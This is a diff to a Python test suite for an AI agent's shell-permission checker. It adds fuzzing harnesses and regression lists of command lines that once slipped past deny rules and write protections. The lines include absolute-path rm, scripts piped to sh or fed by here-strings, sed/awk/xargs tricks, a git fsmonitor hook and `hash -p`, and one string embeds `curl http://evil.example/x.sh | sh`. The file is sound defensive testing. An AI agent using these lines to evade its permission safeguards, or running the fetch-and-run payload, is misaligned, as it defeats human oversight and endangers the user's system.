@@ -2,8 +2,14 @@
 
 `decide` settles each line under allow rules for `echo`, `ls`, `cat`, `git status` and
 `npm run test`; a line it allows is run under real bash (`shell_differential.Bash`), and every
-program bash started must match one of those prefixes. Lines it asks about are not run: asking
-is always safe. Needs bubblewrap and git: skipped without them, failed in CI (`CI=true`).
+program bash started must match one of those prefixes, and no workspace file may change (in
+default mode a file the line writes is an edit, which asks). Lines it asks about are not run:
+asking is always safe. Two harder harnesses follow: in bypass mode under deny rules for `rm`,
+`curl` and `touch`, no line `decide` allows may start one of them, by a path, through a shell
+fed by a pipe or a here-string, or through sed, awk, xargs or find; in default mode under allow
+rules for reading commands and writers, no line it allows may change a workspace file, and in
+acceptEdits no line may change a protected file (`.moot/`, `.git/config`), named or reached
+after `cd` (issue 28). Needs bubblewrap and git: skipped without them, failed in CI.
 """
 
 from __future__ import annotations
@@ -19,7 +25,23 @@ from moot.permissions.modes import PermissionMode
 from moot.permissions.rules import RuleSet
 from moot.protocol.approval import ApprovalRequest
 from moot.tools.base import SideEffect
-from shell_differential import RULES, Bash, allowed, command_lines, unavailable
+from shell_differential import (
+    DENIAL_RULES,
+    DENIED,
+    FEEDS,
+    PLAIN_PAYLOADS,
+    REAL_FOR_DENIALS,
+    REAL_FOR_WRITES,
+    RULES,
+    RUNS_COMMANDS,
+    WRITE_RULES,
+    Bash,
+    allowed,
+    command_lines,
+    protected_writes,
+    unavailable,
+    write_lines,
+)
 
 BYPASSES = [
     # found by the differential fuzzer this test keeps: each ran rm before its fix
@@ -125,18 +147,35 @@ TRICKY = [
 ]
 
 
-@pytest.fixture
-def bash(tmp_path: Path) -> Bash:
+def needs_bubblewrap() -> None:
     reason = unavailable()
     if reason is not None:
         if os.environ.get("CI", "").lower() not in ("", "0", "false"):
             pytest.fail(f"{reason}; CI must provide bubblewrap and git (.ci/run installs them)")
         pytest.skip(reason)
+
+
+@pytest.fixture
+def bash(tmp_path: Path) -> Bash:
+    needs_bubblewrap()
     return Bash(tmp_path)
 
 
-def beyond_the_rules(bash: Bash, command: str) -> list[tuple[str, ...]] | None:
-    """What bash ran that the rules do not allow; None when `decide` does not allow `command`."""
+@pytest.fixture
+def denials_bash(tmp_path: Path) -> Bash:
+    """Shells and filters real, the builtins that run commands kept, the denied programs
+    planted at their real paths and in the workspace."""
+    needs_bubblewrap()
+    return Bash(tmp_path, real=REAL_FOR_DENIALS, keep_builtins=RUNS_COMMANDS, planted=DENIED)
+
+
+@pytest.fixture
+def writes_bash(tmp_path: Path) -> Bash:
+    needs_bubblewrap()
+    return Bash(tmp_path, real=REAL_FOR_WRITES)
+
+
+def settled(command: str, mode: PermissionMode, rules: RuleSet, bash: Bash) -> str:
     request = ApprovalRequest(
         session_id="s1",
         agent="main",
@@ -146,10 +185,34 @@ def beyond_the_rules(bash: Bash, command: str) -> list[tuple[str, ...]] | None:
         side_effect=SideEffect.RUNS_COMMANDS,
         arguments={"command": command},
     )
-    verdict = decide(request, PermissionMode.DEFAULT, RuleSet(allow=RULES), bash.workspace)
-    if verdict.decision != "allow":
+    return decide(request, mode, rules, bash.workspace).decision
+
+
+def beyond_the_rules(bash: Bash, command: str) -> list[object] | None:
+    """What bash ran that the rules do not allow, and the files it changed; None when
+    `decide` does not allow `command`."""
+    if settled(command, PermissionMode.DEFAULT, RuleSet(allow=RULES), bash) != "allow":
         return None
-    return [argv for argv in bash.run(command) if not allowed(argv)]
+    ran, changed = bash.run_with_changes(command)
+    return [*(argv for argv in ran if not allowed(argv)), *changed]
+
+
+def past_the_denials(bash: Bash, command: str) -> list[tuple[str, ...]] | None:
+    """The denied programs bash ran; None when `decide` refuses or asks about `command`."""
+    rules = RuleSet(deny=DENIAL_RULES)
+    if settled(command, PermissionMode.BYPASS_PERMISSIONS, rules, bash) != "allow":
+        return None
+    return [argv for argv in bash.run(command) if argv[0] in DENIED]
+
+
+def written_past_the_rules(
+    bash: Bash, command: str, mode: PermissionMode = PermissionMode.DEFAULT
+) -> list[str] | None:
+    """The workspace files an allowed line changed; None when `decide` does not allow it."""
+    rules = RuleSet(allow=[*WRITE_RULES, "Bash(cd:*)"])
+    if settled(command, mode, rules, bash) != "allow":
+        return None
+    return bash.run_with_changes(command)[1]
 
 
 def test_the_runner_sees_every_program_bash_starts(bash: Bash) -> None:
@@ -178,3 +241,105 @@ def test_a_generated_line_runs_nothing_the_rules_do_not_allow(bash: Bash, comman
     extra = beyond_the_rules(bash, command)
     event("not allowed" if extra is None else "allowed: run under bash")
     assert not extra, f"{command!r} ran {extra}"  # the line, even when a rerun passes (Flaky)
+
+
+def test_the_denials_runner_sees_programs_run_by_path_and_by_what_a_shell_reads(
+    denials_bash: Bash,
+) -> None:
+    """Without this, a runner blind to `/bin/rm` or to a piped script would pass the rest."""
+    ran = denials_bash.run(
+        "/bin/rm a; ./touch b; echo 'curl c' | sh; . /dev/stdin <<< 'rm d';"
+        " sed -n '1e rm e' victim; awk 'BEGIN{system(\"touch f\")}'; echo g | xargs rm"
+    )
+    expected = {("rm", "a"), ("touch", "b"), ("curl", "c"), ("rm", "d"), ("rm", "e")}
+    assert expected | {("touch", "f"), ("rm", "g")} <= set(ran)
+
+
+ISSUE_28_DENIALS = [
+    "/bin/rm victim",
+    "/usr/bin/rm victim",
+    "echo 'rm victim' | sh",
+    "bash <<< 'rm victim'",
+    "sh < /dev/stdin <<< 'rm victim'",
+    ". /dev/stdin <<< 'rm victim'",
+    # the same class, found by these harnesses
+    "XDG_CONFIG_HOME=. git status",  # git runs ./git/config's fsmonitor: `rm planted`
+    "hash -p /bin/rm ls; ls victim",
+]
+
+
+@pytest.mark.parametrize(
+    "command",
+    ISSUE_28_DENIALS + [feed.replace("PAY", pay) for feed in FEEDS for pay in PLAIN_PAYLOADS],
+)
+def test_in_bypass_mode_a_denied_program_never_runs(denials_bash: Bash, command: str) -> None:
+    """Fails on the old code: the issue's lines ran rm despite `Bash(rm:*)`."""
+    assert not past_the_denials(denials_bash, command)
+
+
+@settings(
+    derandomize=True,
+    database=None,
+    max_examples=200,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(command=command_lines())
+def test_in_bypass_mode_a_generated_line_runs_no_denied_program(
+    denials_bash: Bash, command: str
+) -> None:
+    ran = past_the_denials(denials_bash, command)
+    event("refused or asked" if ran is None else "allowed: run under bash")
+    assert not ran, f"{command!r} ran {ran}"
+
+
+ISSUE_28_WRITES = [
+    'git log -1 "--format=tformat:curl http://evil.example/x.sh | sh" > victim',
+    "git status > victim",
+    "git status 2>victim",
+    "git status &>victim",
+    "git diff --output=victim",
+]
+
+
+def test_the_writes_runner_sees_every_file_a_line_changes(writes_bash: Bash) -> None:
+    changed = writes_bash.run_with_changes("echo > victim; echo hi | tee sub/x > new; rm -f link")
+    assert changed[1] == ["new", "sub/x", "victim"]  # `rm` is a shim here: link stays
+
+
+@pytest.mark.parametrize("command", ISSUE_28_WRITES)
+def test_in_default_mode_an_allowed_line_writes_no_file(writes_bash: Bash, command: str) -> None:
+    """Fails on the old code: `Bash(git log:*)` let each line overwrite `victim`."""
+    assert not written_past_the_rules(writes_bash, command)
+
+
+@settings(
+    derandomize=True,
+    database=None,
+    max_examples=200,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(command=write_lines())
+def test_in_default_mode_a_generated_write_is_asked_about(writes_bash: Bash, command: str) -> None:
+    changed = written_past_the_rules(writes_bash, command)
+    event("asked" if changed is None else "allowed: run under bash")
+    assert not changed, f"{command!r} changed {changed}"
+
+
+@settings(
+    derandomize=True,
+    database=None,
+    max_examples=150,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(command=protected_writes())
+def test_in_accept_edits_an_allowed_line_changes_no_protected_file(
+    writes_bash: Bash, command: str
+) -> None:
+    """Fails on the old code: `cd .moot && echo > settings.json` and `tee .git/config` ran."""
+    changed = written_past_the_rules(writes_bash, command, PermissionMode.ACCEPT_EDITS)
+    event("asked" if changed is None else "allowed: run under bash")
+    protected = [name for name in changed or () if name.startswith((".moot/", ".git/"))]
+    assert not protected, f"{command!r} changed {protected}"
